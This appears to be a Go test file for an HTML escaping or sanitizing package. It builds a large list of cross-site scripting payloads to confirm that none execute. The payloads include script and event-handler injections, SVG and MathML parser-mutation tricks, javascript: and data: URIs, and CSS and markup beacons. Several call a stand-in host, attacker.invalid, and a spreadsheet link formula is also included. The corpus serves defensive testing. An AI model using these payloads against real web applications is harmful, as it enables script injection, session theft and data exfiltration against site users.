package html_test

import (
	"slices"
	"strings"
	"unicode/utf8"
)

// payloads returns texts that try to execute RUN, which the tests detect.
func payloads() []string {
	const run = `window.__xss=1;alert(1);new Image().src='http://attacker.invalid/'`
	var out []string
	for _, p := range append(markup, scripted...) {
		out = append(out, strings.ReplaceAll(p, "RUN", run))
	}
	for _, p := range out { // as a careless decoder returns them
		if strings.Contains(p, "<script>") {
			out = append(out, strings.NewReplacer("<", "%3C", ">", "%3E").Replace(p), strings.NewReplacer("<", "&lt;", ">", "&gt;").Replace(p),
				strings.NewReplacer("<", `\u003c`, ">", `\u003e`).Replace(p), strings.NewReplacer("<", "\uff1c", ">", "\uff1e").Replace(p))
		}
	}
	slices.Sort(out)
	return slices.Compact(out)
}

// markup holds texts that could be parsed as elements.
var markup = []string{
	// script elements
	`<script>RUN</script>`, `<SCRIPT>RUN</SCRIPT>`, `<script/x>RUN</script>`, "<script\n>RUN</script\n>", `<scr<script>ipt>RUN</scr</script>ipt>`,
	`<<script>RUN//<</script>`, `<script src=http://attacker.invalid/x.js></script>`, `<script src=data:text/javascript,RUN></script>`,
	`<script type=module>RUN</script>`, `<script>/*`, `<script type="application/json" class="report">{}</script>`, `<script nonce=x>RUN</script>`,
	// breaking out of the context
	`</script><script>RUN</script>`, `</ScRiPt ><img src=x onerror=RUN>`, `</script/x><svg onload=RUN>`, `<!--<script>`, `--><script>RUN</script>`, `--!><img src=x onerror=RUN>`,
	`<![CDATA[<script>RUN</script>]]>`, `]]><script>RUN</script>`, `</title><script>RUN</script>`, `</style><script>RUN</script>`, `</noscript><script>RUN</script>`,
	`</textarea><script>RUN</script>`, `</body></html><script>RUN</script>`, `"><script>RUN</script>`, `'><img src=x onerror=RUN>`, "`><img src=x onerror=RUN>",
	// event handlers
	`<img src=x onerror=RUN>`, `<img src=x onerror="RUN">`, `<img/src/onerror=RUN>`, `<img src=x:x onerror=RUN //`, `<body onload=RUN>`, `<body onpageshow=RUN>`,
	`<input autofocus onfocus=RUN>`, `<select autofocus onfocus=RUN>`, `<textarea autofocus onfocus=RUN>`, `<video src=x onerror=RUN>`, `<audio src onloadstart=RUN>`,
	`<video><source onerror=RUN></video>`, `<details open ontoggle=RUN>`, `<marquee onstart=RUN>x</marquee>`, `<div onpointerenter=RUN>x</div>`, `<x onclick=RUN tabindex=1>x`,
	`<div style="animation:x 1s" onanimationstart=RUN>`, `<p oncontentvisibilityautostatechange=RUN style=content-visibility:auto>`, `<dialog open onclose=RUN>x</dialog>`,
	// svg and mathml
	`<svg onload=RUN>`, `<svg/onload=RUN>`, `<svg><script>RUN</script></svg>`, `<svg><script href=data:,RUN />`, `<svg><animate onbegin=RUN attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=RUN></svg>#x">`, `<svg><set attributeName=onmouseover to=RUN>`,
	`<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></foreignObject></svg>`, `<math href="javascript:RUN">x</math>`, `<math><maction actiontype=statusline xlink:href=javascript:RUN>x`,
	// frames, bases, refreshes, links
	`<iframe src=javascript:RUN></iframe>`, `<iframe srcdoc="<script>parent.RUN</script>"></iframe>`, `<iframe srcdoc=&lt;img/src/onerror=RUN&gt;></iframe>`, `<object data=javascript:RUN></object>`,
	`<embed src=javascript:RUN>`, `<frameset onload=RUN>`, `<base href=http://attacker.invalid/>`, `<meta http-equiv=refresh content="0;url=http://attacker.invalid/">`,
	`<meta http-equiv=Content-Security-Policy content="script-src *">`, `<link rel=stylesheet href=http://attacker.invalid/x.css>`, `<link rel=preload as=image href=http://attacker.invalid/>`,
	`<form action=http://attacker.invalid/><button>x</button></form>`, `<button form=x formaction=javascript:RUN>x</button>`, `<isindex action=javascript:RUN type=submit>`, `<portal src=http://attacker.invalid/>`,
	`<img src=http://attacker.invalid/pixel>`, `<img srcset="http://attacker.invalid/ 1x">`, `<a href="javascript:RUN">x</a>`, `<a ping=http://attacker.invalid/ href=#>x</a>`,
	// style
	`<style>*{background:url(http://attacker.invalid/)}</style>`, `<style>@import 'http://attacker.invalid/x.css';</style>`, `<div style="background:url(javascript:RUN)">`, `<xss style="behavior:url(x.htc)">`,
	`<style><img src="</style><img src=x onerror=RUN>">`, `}*{background:url(http://attacker.invalid/)}`, `x:expression(RUN)`,
	// templates and clobbering
	`<template><script>RUN</script></template>`, `<template shadowrootmode=open><script>RUN</script></template>`, `<slot onslotchange=RUN>`, `<form id=report><input name=textContent></form>`,
	`<img name=getElementById>`, `<a id=overview></a><a id=overview name=hidden></a>`, `<div id=lines></div>`, `{{constructor.constructor('RUN')()}}`, `${RUN}`, `#{RUN}`, `<%= RUN %>`, `<x v-html="'RUN'">`, `<x ng-app>{{$on.constructor('RUN')()}}`,
	// what a parser repairs into something else
	`<noscript><p title="</noscript><img src=x onerror=RUN>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">`,
	`<svg></p><style><a id="</style><img src=x onerror=RUN>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>`, `<table><td background=javascript:RUN>`,
	`<listing>&lt;img onerror=RUN src=x&gt;</listing>`, `<xmp><p title="</xmp><svg/onload=RUN>">`, `<plaintext>`, `<img src="x` + "`" + `<script>RUN</script>"` + "`" + `>`, `<a href="&#106;avascript:RUN">x</a>`,
}

// scripted holds texts that could be parsed as code, links or control characters.
var scripted = []string{
	`javascript:RUN`, `JaVaScRiPt:RUN`, "java\tscript:RUN", "java\nscript:RUN", "\x01javascript:RUN", `javascript://%0aRUN`, `data:text/html,<script>RUN</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
	`vbscript:RUN`, `blob:http://attacker.invalid/x`, `view-source:javascript:RUN`, `//attacker.invalid/`, `#" onclick="RUN`, `#case=x&variant=<script>RUN</script>`,
	`";RUN;//`, `';RUN;//`, "`;RUN;//", `\";RUN;//`, `\u0022;RUN;//`, `"}];RUN;[{"`, `\`, `\\`, `\u2028RUN`, "\u2028RUN\u2029", "\u2028</script><script>RUN</script>", `");RUN;("`, "`${RUN}`", `'-RUN-'`, `"-RUN-"`,
	`{"__proto__":{"html":"<img src=x onerror=RUN>"}}`, `__proto__`, `constructor`, `hasOwnProperty`, `toString`, `[object Object]`, `null`, `undefined`, `NaN`,
	"\x00<script>RUN</script>", "<scr\x00ipt>RUN</script>", "\ufeff<script>RUN</script>", "+ADw-script+AD4-RUN+ADw-/script+AD4-", "\u202e<script>RUN</script>\u202c", "\u200b\u2066hidden\u2069", "<\u200bscript>RUN</script>",
	"\U000e0041\U000e0042", "a\u0300\u0301\u0302\u0303\u0304", "\x1b[31mred\x1b]0;RUN\x07", "\r\n\r\n<script>RUN</script>", "\uff1cscript\uff1eRUN\uff1c/script\uff1e", "\u01f1script\u227aRUN", "\xc0\xbcscript\xc0\xbeRUN",
	"\xed\xa0\xbc<script>RUN</script>", "\xff\xfe<\x00s\x00c\x00r\x00", "[x](javascript:RUN)", "![x](http://attacker.invalid/x.png)", "<http://attacker.invalid/>", "[x]: javascript:RUN", "```html\n<script>RUN</script>\n```", "@everyone https://attacker.invalid/", `=HYPERLINK("http://attacker.invalid/")`,
	`&lt;script&gt;RUN&lt;/script&gt;`, `&#60;script&#62;RUN&#60;/script&#62;`, `&#x3c;img src=x onerror=RUN&#x3e;`, `&amp;lt;script&amp;gt;`, `&`, `<`, `>`, `"`, `'`, "`", `<>`, `</`, `<!`, `<?xml version="1.0"?><?xml-stylesheet href="javascript:RUN"?>`, `<?php RUN ?>`,
	strings.Repeat("<b>", 2000), strings.Repeat("A", 5000), strings.Repeat("[", 3000), "",
}

// asText returns a payload as it survives JSON encoding.
func asText(p string) string {
	var b strings.Builder
	for len(p) > 0 {
		r, size := utf8.DecodeRuneInString(p)
		b.WriteRune(r)
		p = p[size:]
	}
	return b.String()
}
